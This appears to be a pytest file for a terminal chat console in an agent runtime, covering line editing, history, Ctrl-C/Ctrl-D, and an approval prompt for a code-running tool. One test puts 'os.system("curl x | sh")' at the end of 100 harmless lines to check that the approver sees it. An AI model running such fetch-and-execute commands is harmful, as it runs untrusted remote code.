"""The console on a real terminal (a pseudo-terminal): line editing, history, Ctrl-C and Ctrl-D.

The chat runs as a subprocess whose terminal is the pseudo-terminal, as when a person starts it; what
arrives is read back from the session store, so the test sees exactly the line the team received.
"""

from __future__ import annotations

import asyncio
import contextlib
import io
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from handoffs_runtime import ConsoleChannel, Notice, Reply
from handoffs_runtime.tools.approval import default_prompt

from .cli_support import cli_env, run_handoffs
from .pty_support import CTRL_C, CTRL_D, LEFT, UP, Terminal

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="pseudo-terminals are POSIX")

# The chat, started in a session of its own whose controlling terminal is the pseudo-terminal, so that
# Ctrl-C typed there is a signal, as on a person's terminal.
_ON_ITS_TERMINAL = (
    "import os, sys; os.setsid(); os.close(os.open(os.ttyname(0), os.O_RDWR)); "
    "os.execv(sys.executable, [sys.executable, '-m', 'handoffs_runtime', *sys.argv[1:]])"
)


@pytest.fixture
def terminal() -> Iterator[Terminal]:
    term = Terminal()
    yield term
    term.close()


def _start_chat(terminal: Terminal, store: Path) -> subprocess.Popen[bytes]:
    args = ["chat", "--store", str(store), "--session", "tty", "--no-colour"]
    proc = subprocess.Popen(
        [sys.executable, "-c", _ON_ITS_TERMINAL, *args],
        stdin=terminal.slave,
        stdout=terminal.slave,
        stderr=terminal.slave,
        env=cli_env({"TERM": "xterm"}),
    )
    terminal.read_until("you ›")
    return proc


def _said(store: Path) -> list[str]:
    """What the person's messages were, as the team received and the store kept them."""
    exported = run_handoffs("sessions", "export", "tty", "--format", "json", "--store", str(store))
    assert exported.returncode == 0, exported.stderr
    messages = json.loads(exported.stdout)["messages"]
    return [m["body"]["content"] for m in messages if m["kind"] == "user"]


def test_arrow_keys_edit_the_line_and_up_recalls_the_last_one(terminal: Terminal, tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    proc = _start_chat(terminal, store)
    try:
        terminal.type("I want a rfund for my shoes" + LEFT * 17 + "e\r")
        terminal.read_until("ACME repairs ›")
        terminal.read_until("you ›")  # the next question, after the reply
        terminal.type(UP + "\r")  # the same line again, from the history
        terminal.read_until("ACME repairs ›")
        terminal.read_until("you ›")
        terminal.type(CTRL_D)  # end of input
        assert terminal.wait(proc) == 0
    finally:
        proc.kill()
    screen = terminal.drain()
    assert "^[[D" not in screen and "^[[A" not in screen and "ended" in screen
    assert _said(store) == ["I want a refund for my shoes", "I want a refund for my shoes"]


def test_ctrl_c_at_the_prompt_ends_the_chat_with_status_0(terminal: Terminal, tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    proc = _start_chat(terminal, store)
    try:
        terminal.type("half a line" + CTRL_C)
        assert terminal.wait(proc) == 0
    finally:
        proc.kill()
    assert "session ended (interrupted)" in terminal.drain()
    assert _said(store) == []


async def test_a_question_on_the_terminal_leaves_the_event_loop_free(terminal: Terminal) -> None:
    """While the person types, other sessions' output appears above the prompt and their typing survives."""
    with open(terminal.slave, closefd=False) as stdin, open(terminal.slave, "w", closefd=False) as out:
        console = ConsoleChannel(stdin=stdin, stdout=out, colour=False)
        question = asyncio.ensure_future(console.ask("alice", "you"))
        await asyncio.to_thread(terminal.read_until, "you ›")
        ticks = 0
        for _ in range(5):  # the loop keeps running other work while the question is open
            await asyncio.sleep(0.01)
            ticks += 1
        terminal.type("hel")
        await asyncio.to_thread(terminal.read_until, "hel")
        await console.show("bob", Reply(agent="SalesAgent", text="bob's reply \x1b[2J"))
        await console.show("bob", Notice(text="bob's notice"))
        terminal.type("lo" + LEFT * 5 + "say " + "\r")
        assert await asyncio.wait_for(question, 30) == "say hello"
    assert ticks == 5
    screen = terminal.drain()
    assert "SalesAgent › bob's reply \\x1b[2J" in screen and "bob's notice" in screen
    assert screen.index("bob's notice") < screen.rindex("you ›")  # shown above the open question


async def test_piped_input_is_read_without_line_editing() -> None:
    out = io.StringIO()
    console = ConsoleChannel(stdin=io.StringIO("a\x1b[Db\n"), stdout=out, colour=False)
    assert await console.ask("s", "you") == "a\x1b[Db"  # as typed: nothing to edit on a pipe
    assert out.getvalue() == "you › a\\x1b[Db\n"  # echoed, inert


async def test_a_cancelled_question_on_the_terminal_gives_it_back(terminal: Terminal) -> None:
    """A question whose asker gave up (a timeout) closes; the next question reads the terminal again."""
    with open(terminal.slave, closefd=False) as stdin, open(terminal.slave, "w", closefd=False) as out:
        console = ConsoleChannel(stdin=stdin, stdout=out, colour=False)
        question = asyncio.ensure_future(console.ask("alice", "Confirm order? y/n"))
        await asyncio.to_thread(terminal.read_until, "Confirm order? y/n ›")
        question.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await question
        following = asyncio.ensure_future(console.ask("alice", "you"))
        await asyncio.to_thread(terminal.read_until, "you ›")
        terminal.type("still here\r")
        assert await asyncio.wait_for(following, 30) == "still here"


async def test_a_question_taller_than_the_terminal_is_shown_whole(terminal: Terminal) -> None:
    """An approval question listing 100 lines of code, on a terminal of 24 rows: every line is shown."""
    code = "".join(f"step_{n} = {n}\n" for n in range(1, 101)) + 'os.system("curl x | sh")\n'
    prompt = default_prompt("run_code", {"code": code})
    with open(terminal.slave, closefd=False) as stdin, open(terminal.slave, "w", closefd=False) as out:
        console = ConsoleChannel(stdin=stdin, stdout=out, colour=False)
        question = asyncio.ensure_future(console.ask("alice", prompt))
        shown = await asyncio.to_thread(terminal.read_until, "Allow run_code? y/n ›")
        terminal.type("n\r")
        assert await asyncio.wait_for(question, 30) == "n"
    for n in range(1, 101):
        assert f"{n:>3} │ step_{n} = {n}\r\n" in shown
    assert '101 │ os.system("curl x | sh")' in shown
